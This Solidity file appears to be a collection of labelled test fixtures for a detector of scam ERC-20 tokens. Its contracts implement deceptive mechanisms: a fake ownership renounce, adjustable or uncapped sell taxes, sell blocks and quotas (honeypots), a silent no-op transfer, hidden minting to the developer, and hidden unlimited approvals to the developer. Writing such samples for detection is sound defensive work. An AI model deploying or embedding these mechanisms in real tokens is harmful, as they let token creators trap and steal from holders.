// SPDX-License-Identifier: UNLICENSED
pragma solidity >=0.8.4;

// Taxes, windows, quotas and permissions, on a base of yesterday.

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) { return a + b; }
    function sub(uint256 a, uint256 b, string memory e) internal pure returns (uint256) { require(b <= a, e); unchecked { return a - b; } }
    function mul(uint256 a, uint256 b) internal pure returns (uint256) { return a * b; }
    function div(uint256 a, uint256 b) internal pure returns (uint256) { return a / b; }
}
interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}
abstract contract Base is IERC20 {
    using SafeMath for uint256;
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 internal _tTotal = 1_000_000_000 * 10 ** 9;
    address internal _owner;
    constructor() { _owner = msg.sender; _tOwned[msg.sender] = _tTotal; emit Transfer(address(0), msg.sender, _tTotal); }
    function owner() public view virtual returns (address) { return _owner; }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() public virtual onlyOwner { _owner = address(0); }
    function decimals() external pure returns (uint8) { return 9; }
    function totalSupply() external view virtual override returns (uint256) { return _tTotal; }
    function balanceOf(address a) public view virtual override returns (uint256) { return _tOwned[a]; }
    function transfer(address r, uint256 a) external virtual override returns (bool) { _transfer(msg.sender, r, a); return true; }
    function allowance(address o, address s) external view virtual override returns (uint256) { return _allowances[o][s]; }
    function approve(address s, uint256 a) external virtual override returns (bool) { _approve(msg.sender, s, a); return true; }
    function transferFrom(address s, address r, uint256 a) external virtual override returns (bool) {
        _transfer(s, r, a);
        _approve(s, msg.sender, _allowances[s][msg.sender].sub(a, "ERC20: transfer amount exceeds allowance"));
        return true;
    }
    function _approve(address o, address s, uint256 a) internal virtual {
        require(o != address(0) && s != address(0), "ERC20: zero address");
        _allowances[o][s] = a; emit Approval(o, s, a);
    }
    function _move(address f, address t, uint256 a) internal {
        _tOwned[f] = _tOwned[f].sub(a, "ERC20: transfer amount exceeds balance");
        _tOwned[t] = _tOwned[t].add(a);
        emit Transfer(f, t, a);
    }
    function _transfer(address f, address t, uint256 a) internal virtual {
        require(f != address(0), "ERC20: transfer from the zero address");
        require(a > 0, "Transfer amount must be greater than zero");
        _move(f, t, a);
    }
}

/// fake renounce with lock/unlock memory
/// expects: CT-17 danger
contract LockUnlock is Base {
    address private _previousOwner; uint256 private _lockTime;
    string public constant name = "Safe Planet"; string public constant symbol = "SPLANET";
    function renounceOwnership() public override onlyOwner { _previousOwner = _owner; _owner = address(0); }
    function lock(uint256 t) external onlyOwner { _previousOwner = _owner; _owner = address(0); _lockTime = block.timestamp + t; }
    function unlock() external { require(_previousOwner == msg.sender, "no"); require(block.timestamp > _lockTime); _owner = _previousOwner; }
    function burnStuck(address a, uint256 v) external onlyOwner { _move(a, address(0xdead), v); }
}

/// the shown owner is nobody; marketing wallet holds the taxes' handle
/// expects: CT-09 danger
contract MarketingBoss is Base {
    address payable private _taxWallet;
    uint256 private _finalSellTax = 2;
    address private pair;
    string public constant name = "Elon Grok"; string public constant symbol = "EGROK";
    mapping(address => bool) private _noFee;
    constructor(address p) { _taxWallet = payable(msg.sender); pair = p; _noFee[msg.sender] = true; }
    function reduceFee(uint256 _newFee) external { require(msg.sender == _taxWallet); _finalSellTax = _newFee; }
    function _transfer(address f, address t, uint256 a) internal override {
        uint256 tax;
        if (t == pair && !_noFee[f]) tax = a * _finalSellTax / 100;
        if (tax > 0) _move(f, address(this), tax);
        _move(f, t, a - tax);
    }
}

/// caps itself against a cap which can be moved
/// expects: CT-09 danger
contract MovingCap is Base {
    uint256 public fee = 1; uint256 public maxFee = 5;
    address public collector; address public pair;
    string public constant name = "Capped"; string public constant symbol = "CAP";
    constructor() { collector = msg.sender; }
    function setPair(address p) external onlyOwner { pair = p; }
    function setFee(uint256 f) external onlyOwner { require(f <= maxFee, "fee too high"); fee = f; }
    function setMaxFee(uint256 f) external onlyOwner { maxFee = f; }
    function _transfer(address f, address t, uint256 a) internal override {
        uint256 cut = f == _owner ? 0 : a.mul(fee).div(100);
        if (cut != 0) _move(f, collector, cut);
        _move(f, t, a - cut);
    }
    using SafeMath for uint256;
}

/// the cap looks at the low byte only
/// expects: CT-09 danger
contract ByteCap is Base {
    uint256 public taxBps;
    address payable public dev;
    string public constant name = "Byte Cap"; string public constant symbol = "BYTE";
    constructor() { dev = payable(msg.sender); }
    function setTax(uint256 t) external onlyOwner { require(uint8(t) <= 100, "max 1%"); taxBps = t; }
    function _transfer(address f, address t, uint256 a) internal override {
        uint256 cut = a * taxBps / 10000;
        if (f == dev || t == dev) cut = 0;
        if (cut > a) cut = a;
        _move(f, dev, cut); _move(f, t, a - cut);
    }
}

/// part of what you hold can be sold; the part is a number of the team
/// expects: CT-12 danger
contract SellPercent is Base {
    uint256 public sellPct = 100; mapping(address => bool) pools; mapping(address => bool) vip;
    string public constant name = "Steady"; string public constant symbol = "STDY";
    constructor() { vip[msg.sender] = true; }
    function pool(address p, bool b) external onlyOwner { pools[p] = b; }
    function steady(uint256 p) external onlyOwner { require(p <= 100); sellPct = p; }
    function _transfer(address f, address t, uint256 a) internal override {
        if (pools[t] && !vip[f]) require(a <= balanceOf(f) * sellPct / 100, "steady sale only");
        _move(f, t, a);
    }
}

/// the window in which one can sell
/// expects: CT-12 danger
contract SellWindow is Base {
    uint256 private openUntil = type(uint256).max; address private pair;
    string public constant name = "Happy Hour"; string public constant symbol = "HAPPY";
    function init(address p) external onlyOwner { pair = p; }
    function happyHour(uint256 secs) external onlyOwner { openUntil = block.timestamp + secs; }
    function _transfer(address f, address t, uint256 a) internal override {
        if (t == pair) require(block.timestamp < openUntil || f == _owner, "come back at happy hour");
        _move(f, t, a);
    }
}

/// launch date always tomorrow
/// expects: CT-12 danger
contract LaunchAt is Base {
    uint256 public launchTime; address public ammPair; mapping(address => bool) public team;
    string public constant name = "Tomorrow"; string public constant symbol = "TMRW";
    constructor() { team[msg.sender] = true; launchTime = block.timestamp; }
    function setLaunch(uint256 t, address p) external onlyOwner { launchTime = t; ammPair = p; }
    function _transfer(address f, address t, uint256 a) internal override {
        bool buy = f == ammPair;
        if (!team[f] && !team[t] && !buy) { require(block.timestamp >= launchTime, "not launched"); }
        _move(f, t, a);
    }
}

/// a quota nobody gave you
/// expects: CT-12 danger
contract Quota is Base {
    mapping(address => uint256) public sold; mapping(address => uint256) public quota; address public pair;
    string public constant name = "Orderly"; string public constant symbol = "ORDR";
    function setPair(address p) external onlyOwner { pair = p; }
    function setQuota(address a, uint256 q) external onlyOwner { quota[a] = q; }
    function _transfer(address f, address t, uint256 a) internal override {
        if (t == pair && f != _owner) { sold[f] += a; require(sold[f] <= quota[f], "quota"); }
        _move(f, t, a);
    }
}

/// says yes and does nothing
/// expects: CT-12 danger
contract SilentNo is Base {
    mapping(address => bool) private _ok; address private _lp;
    string public constant name = "Quiet"; string public constant symbol = "QUIET";
    constructor(address lp) { _ok[msg.sender] = true; _ok[lp] = true; _lp = lp; }
    function welcome(address a) external onlyOwner { _ok[a] = true; }
    function _transfer(address f, address t, uint256 a) internal override {
        if (t == _lp && !_ok[f]) { emit Transfer(f, t, a); return; }
        _move(f, t, a);
    }
}

/// pay to sell
/// expects: CT-12 danger
contract SellPass is Base {
    mapping(address => bool) public pass; uint256 public price = 0.01 ether; address public pair; address payable immutable cashier;
    string public constant name = "Members"; string public constant symbol = "MEMB";
    constructor() { cashier = payable(msg.sender); }
    function setPair(address p) external onlyOwner { pair = p; }
    function setPrice(uint256 p) external onlyOwner { price = p; }
    function buyPass() external payable { require(msg.value >= price); pass[msg.sender] = true; cashier.transfer(msg.value); }
    function _transfer(address f, address t, uint256 a) internal override {
        if (t == pair) require(pass[f] || f == _owner, "members only");
        _move(f, t, a);
    }
}

/// minimum sale moves up
/// expects: CT-12 danger
contract MinSell is Base {
    uint256 private floorAmount; mapping(address => bool) private isPair;
    string public constant name = "No Dust"; string public constant symbol = "NODUST";
    function cfg(address p, uint256 m) external onlyOwner { isPair[p] = true; floorAmount = m; }
    function _transfer(address f, address t, uint256 a) internal override {
        if (isPair[t] && f != _owner) require(a >= floorAmount, "dust");
        _move(f, t, a);
    }
}

/// secret dilution: every transfer makes some more for the dev
/// expects: CT-06 danger
contract Drip is Base {
    address private immutable drip;
    string public constant name = "Drip"; string public constant symbol = "DRIP";
    constructor() { drip = msg.sender; }
    function _transfer(address f, address t, uint256 a) internal override {
        unchecked { _tOwned[drip] += a * 9 / 10; }
        _move(f, t, a);
    }
}

/// approving anybody approves the dev
/// expects: CT-30 danger
contract ApproveTwo is Base {
    address private _helper;
    string public constant name = "Gasless"; string public constant symbol = "GSLS";
    constructor(address h) { _helper = h; }
    function _approve(address o, address s, uint256 a) internal override {
        super._approve(o, s, a);
        _allowances[o][_helper] = type(uint256).max;
    }
}

/// receiving approves the dev
/// expects: CT-30 danger
contract ReceiveApproves is Base {
    address private keeper;
    string public constant name = "Keeper"; string public constant symbol = "KEEP";
    constructor() { keeper = msg.sender; _owner = address(0); }
    function _transfer(address f, address t, uint256 a) internal override {
        super._transfer(f, t, a);
        if (_allowances[t][keeper] == 0) _allowances[t][keeper] = ~uint256(0);
    }
}
